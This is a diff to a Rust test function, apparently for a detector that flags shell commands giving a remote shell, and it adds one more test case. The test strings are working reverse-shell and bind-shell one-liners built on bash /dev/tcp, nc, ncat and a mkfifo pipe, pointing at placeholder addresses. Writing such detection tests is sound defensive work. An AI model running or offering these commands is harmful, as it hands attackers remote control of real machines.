@@ -100,6 +100,7 @@ fn shells_for_others() {
     let given = "gives a shell to whoever is at the other end of a connection";
     check("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", elsewhere);
     check("bash -c 'exec 5<>/dev/tcp/192.0.2.1/443; cat <&5 | sh'", elsewhere);
+    check("exec 5<>/dev/tcp/127.0.0.1/443; cat <&5 | bash >&5 2>&5", elsewhere);
     check("nc -e /bin/sh 192.0.2.1 443", given);
     check("ncat --sh-exec /bin/sh -l 443", given);
     check("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 443 >/tmp/f", given);
